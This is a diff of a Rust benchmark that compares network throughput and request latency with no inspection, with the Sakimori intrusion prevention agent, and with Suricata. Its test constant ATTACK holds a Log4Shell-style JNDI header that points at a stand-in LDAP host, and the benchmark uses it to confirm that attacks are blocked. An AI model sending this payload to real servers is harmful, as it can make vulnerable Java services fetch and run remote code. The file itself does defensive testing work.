@@ -1,9 +1,10 @@
 //! Packets through the queue against packets past it: Gbit/s of a download, requests a second, and what the wait costs.
 //!
-//! Two namespaces, one web server of this program's own, no disk. Each side in turn on the same traffic: nothing; the
-//! agent with our own rules, which lets the rest of a long answer by; the same judged to its end (a stream that states no
-//! length); and Suricata on its own queue with the same rules, where it is installed. Each figure is the median of the
-//! rounds; processor time is that of the inspecting processes.
+//! Two namespaces, one web server of this program's own, no disk. Each side in turn on the same traffic: nothing; an agent
+//! with its manager, our own rules and thousands that are made; and Suricata on its own queue with the same rules, where
+//! it is installed. What is measured: an answer that states its length, whose rest the agent lets by; one that does not,
+//! and a stream of no known protocol (`iperf3`), both judged to their end; requests one after the other on one
+//! connection; and requests on 32 connections (`wrk`). Each figure is the median of the rounds.
 
 use std::fs;
 use std::io::{Read, Write};
@@ -17,7 +18,7 @@ use anyhow::{Context, Result, bail};
 use sakimori_sys::lab::{End, Lab};
 
 use crate::api::wait;
-use crate::platform::{PATIENCE, Process, binary, profile, tail};
+use crate::platform::{PATIENCE, Places, Platform, Process, profile, tail};
 
 const SERVER: &str = "198.51.100.1:80";
 const ATTACK: &str = "X-Api-Version: ${jndi:ldap://203.0.113.66/a}\r\n";
@@ -34,15 +35,21 @@ pub struct Options {
     /// Requests of one round, each on a connection that is kept.
     #[arg(long, default_value_t = 5_000)]
     requests: usize,
-    /// Folder with rules.
+    /// Folder with our own rules, for Suricata
     #[arg(long, default_value = "content/network")]
     rules: PathBuf,
+    /// Rules that are made and added to our own, for both
+    #[arg(long, default_value_t = 5_000)]
+    more: usize,
+    /// Seconds of each run of iperf3 and wrk
+    #[arg(long, default_value_t = 3)]
+    seconds: u32,
 }
 
 /// One side under test.
 enum Side {
     Nothing,
-    Agent(Process),
+    Agent(Box<Platform>),
     Suricata(Process),
 }
 
@@ -57,19 +64,34 @@ struct World {
 /// A side that does not work.
 pub fn run(options: &Options) -> Result<()> {
     println!("through the queue, {} build; medians of {} rounds", profile(), options.rounds);
+    for tool in ["iperf3", "wrk"] {
+        if !installed(tool) {
+            println!("{tool} is not installed: its columns stay empty (Debian: apt-get install {tool})");
+        }
+    }
     println!(
-        "{:<24} {:>12} {:>14} {:>10} {:>10} {:>10}",
-        "", "Gbit/s", "Gbit/s, judged", "requests/s", "p50 µs", "p99 µs"
+        "{:<10} {:>8} {:>8} {:>8} | {:>8} {:>7} {:>7} | {:>8} {:>8} {:>8}",
+        "", "answer", "open", "iperf3", "one", "p50", "p99", "32", "p50", "p99"
+    );
+    println!(
+        "{:<10} {:>8} {:>8} {:>8} | {:>8} {:>7} {:>7} | {:>8} {:>8} {:>8}",
+        "", "Gbit/s", "Gbit/s", "Gbit/s", "req/s", "µs", "µs", "req/s", "", ""
     );
     let world = World::new()?;
+    let made = crate::network::rules(options.more);
     measure(options, &world, "no queue", |_| Ok(Side::Nothing))?;
-    measure(options, &world, "Sakimori", agent)?;
-    if Command::new("suricata").arg("-V").output().is_ok_and(|out| out.status.success()) {
-        measure(options, &world, "Suricata", |world| suricata(world, &options.rules))?;
+    measure(options, &world, "Sakimori", |world| agent(world, &made))?;
+    if installed("suricata") {
+        measure(options, &world, "Suricata", |world| suricata(world, &options.rules, &made))?;
     } else {
         println!("suricata is not installed: not measured (Debian: apt-get install -t bookworm-backports suricata)");
     }
     Ok(())
+}
+
+fn installed(program: &str) -> bool {
+    let paths = std::env::var_os("PATH").unwrap_or_default();
+    std::env::split_paths(&paths).any(|folder| folder.join(program).is_file())
 }
 
 impl World {
@@ -148,10 +170,12 @@ fn measure(options: &Options, world: &World, name: &str, start: impl FnOnce(&Wor
             bail!("{name} let an attack through");
         }
     }
-    let (mut counted, mut judged, mut rates, mut times) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
+    let (mut counted, mut judged, mut streamed, mut rates) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
+    let (mut times, mut many) = (Vec::new(), Vec::new());
     for _ in 0..options.rounds {
         counted.push(download(world, "counted", options.mebibytes)?);
         judged.push(download(world, "open", options.mebibytes)?);
+        streamed.extend(stream(world, options.seconds)?);
         let began = Instant::now();
         let mut stream = world.connect()?;
         for _ in 0..options.requests {
@@ -160,22 +184,81 @@ fn measure(options: &Options, world: &World, name: &str, start: impl FnOnce(&Wor
             times.push(at.elapsed());
         }
         rates.push(options.requests as f64 / began.elapsed().as_secs_f64());
+        many.extend(load(world, options.seconds)?);
     }
     times.sort_unstable();
     let place = |share: usize| times.get(times.len() * share / 100).map_or(0, Duration::as_micros);
+    many.sort_by(|one: &Load, other| one.rate.total_cmp(&other.rate));
+    let middle = many.get(many.len() / 2).cloned().unwrap_or_default();
     println!(
-        "{name:<24} {:>12.2} {:>14.2} {:>10.0} {:>10} {:>10}",
+        "{name:<10} {:>8.2} {:>8.2} {:>8.2} | {:>8.0} {:>7} {:>7} | {:>8.0} {:>8} {:>8}",
         median(counted),
         median(judged),
+        median(streamed),
         median(rates),
         place(50),
-        place(99)
+        place(99),
+        middle.rate,
+        middle.p50,
+        middle.p99
     );
     match side {
         Side::Nothing => {}
-        Side::Agent(process) | Side::Suricata(process) => process.stop()?,
+        Side::Agent(platform) => platform.stop()?,
+        Side::Suricata(process) => process.stop()?,
     }
     Ok(())
+}
+
+/// Gbit/s of a stream from server to client, of a protocol that nobody knows.
+fn stream(world: &World, seconds: u32) -> Result<Option<f64>> {
+    if !installed("iperf3") {
+        return Ok(None);
+    }
+    let mut command = world.lab.command("server", "iperf3")?;
+    command.args(["-s", "-1", "-B", "198.51.100.1"]);
+    let server = Process::start(command, &world.dir.path().join("iperf3.log"))?;
+    let mut found = None;
+    wait("iperf3 listens", PATIENCE, || {
+        let Ok(mut command) = world.lab.command("client", "iperf3") else { return false };
+        command.args(["-c", "198.51.100.1", "-R", "-J", "-t", &seconds.to_string()]);
+        let out = command.output().ok().filter(|out| out.status.success());
+        let told = out.and_then(|out| serde_json::from_slice::<serde_json::Value>(&out.stdout).ok());
+        found = told.and_then(|told| told.pointer("/end/sum_received/bits_per_second")?.as_f64());
+        found.is_some()
+    })?;
+    drop(server);
+    Ok(found.map(|bits| bits / 1e9))
+}
+
+/// What wrk says: requests a second, and latencies with their units.
+#[derive(Clone, Debug, Default)]
+struct Load {
+    rate: f64,
+    p50: String,
+    p99: String,
+}
+
+fn load(world: &World, seconds: u32) -> Result<Option<Load>> {
+    if !installed("wrk") {
+        return Ok(None);
+    }
+    let mut command = world.lab.command("client", "wrk")?;
+    let out =
+        command.args(["-t1", "-c32", &format!("-d{seconds}s"), "--latency", &format!("http://{SERVER}/")]).output()?;
+    let text = String::from_utf8_lossy(&out.stdout);
+    if text.contains("Socket errors") {
+        bail!("requests were lost: {text}");
+    }
+    let word = |start: &str| {
+        let line = text.lines().find(|line| line.trim_start().starts_with(start))?;
+        line.split_whitespace().last().map(str::to_owned)
+    };
+    Ok(Some(Load {
+        rate: word("Requests/sec:").and_then(|rate| rate.parse().ok()).context("wrk says nothing")?,
+        p50: word("50%").unwrap_or_default(),
+        p99: word("99%").unwrap_or_default(),
+    }))
 }
 
 fn median(mut values: Vec<f64>) -> f64 {
@@ -215,42 +298,43 @@ fn download(world: &World, path: &str, mebibytes: usize) -> Result<f64> {
     Ok(got as f64 * 8.0 / began.elapsed().as_secs_f64() / 1e9)
 }
 
-fn agent(world: &World) -> Result<Side> {
-    let state = world.dir.path().join("state");
-    let config = world.dir.path().join("agent.toml");
-    fs::write(
-        &config,
-        format!(
-            "[agent]\nstate = \"{}\"\n[block_address]\ntable = \"skm_inline_bench\"\n\
-             [intrusion_prevention]\ntable = \"skm_inline_bench\"\n[policy.modules]\n\
-             log_inspection.state = \"off\"\nblock_address.mode = \"detect\"\n\
-             intrusion_prevention.state = \"on\"\nintrusion_prevention.mode = \"prevent\"\n",
-            state.display()
-        ),
-    )?;
-    let program = binary("sakimori-agent")?;
-    let mut command = world.lab.command("server", &program)?;
-    command.arg("--config").arg(&config).arg("run");
-    let process = Process::start(command, &world.dir.path().join("side.log"))?;
-    wait("the agent inspects", PATIENCE, || {
-        let asked = Command::new(&program).arg("--config").arg(&config).args(["status", "--json"]).output();
-        let status = asked.ok().and_then(|out| serde_json::from_slice::<serde_json::Value>(&out.stdout).ok());
-        status.is_some_and(|status| {
-            let modules = status.get("modules").and_then(serde_json::Value::as_array).cloned().unwrap_or_default();
-            let text =
-                |one: &serde_json::Value, key: &str| one.get(key).and_then(|value| value.as_str().map(str::to_owned));
-            modules.iter().any(|one| {
-                text(one, "id").as_deref() == Some("intrusion_prevention")
-                    && text(one, "state").as_deref() == Some("on")
-            })
+/// Manager and agent beside the server.
+fn agent(world: &World, made: &str) -> Result<Side> {
+    let dir = world.dir.path().join("platform");
+    let network = dir.join("content/network");
+    fs::create_dir_all(&network)?;
+    fs::write(network.join("made.rules"), made)?;
+    let places = Places {
+        lab: Some((Arc::clone(&world.lab), "server".into(), "server".into())),
+        link: "127.0.0.1:7601".into(),
+        api: "127.0.0.1:7600".into(),
+    };
+    let content = format!("content_dir = \"{}\"", dir.join("content").display());
+    let mut platform =
+        Platform::start(&dir, places, &content, "[intrusion_prevention]\ntable = \"skm_inline_bench\"\n")?;
+    let policy = serde_json::json!({"modules": {
+        "log_inspection": {"state": "off"},
+        "block_address": {"mode": "detect"},
+        "intrusion_prevention": {"state": "on", "mode": "prevent"},
+    }});
+    platform.api.call("PUT", "/api/v1/policies/layers/tenant", Some(serde_json::json!({"tree": policy})))?;
+    platform.enrol()?;
+    let wanted = made.lines().count();
+    wait("the agent inspects with all rules", PATIENCE, || {
+        let modules = platform.agent_status().and_then(|status| status.get("modules")?.as_array().cloned());
+        modules.unwrap_or_default().iter().any(|one| {
+            let text = |key: &str| one.get(key).and_then(serde_json::Value::as_str).unwrap_or_default();
+            let rules = text("detail").split([' ', ',']).filter_map(|word| word.parse::<usize>().ok()).max();
+            text("id") == "intrusion_prevention" && text("state") == "on" && rules >= Some(wanted)
         })
-    })?;
-    Ok(Side::Agent(process))
+    })
+    .with_context(|| format!("{:?}", platform.agent_status().and_then(|status| status.get("modules").cloned())))?;
+    Ok(Side::Agent(Box::new(platform)))
 }
 
 /// Suricata on a queue of its own, with the rules of the folder, each to its own defaults else.
-fn suricata(world: &World, rules: &Path) -> Result<Side> {
-    let mut all = String::new();
+fn suricata(world: &World, rules: &Path, made: &str) -> Result<Side> {
+    let mut all = made.to_owned();
     let mut files: Vec<PathBuf> = fs::read_dir(rules)?.flatten().map(|entry| entry.path()).collect();
     files.sort();
     for file in files.iter().filter(|file| file.extension().is_some_and(|ending| ending == "rules")) {
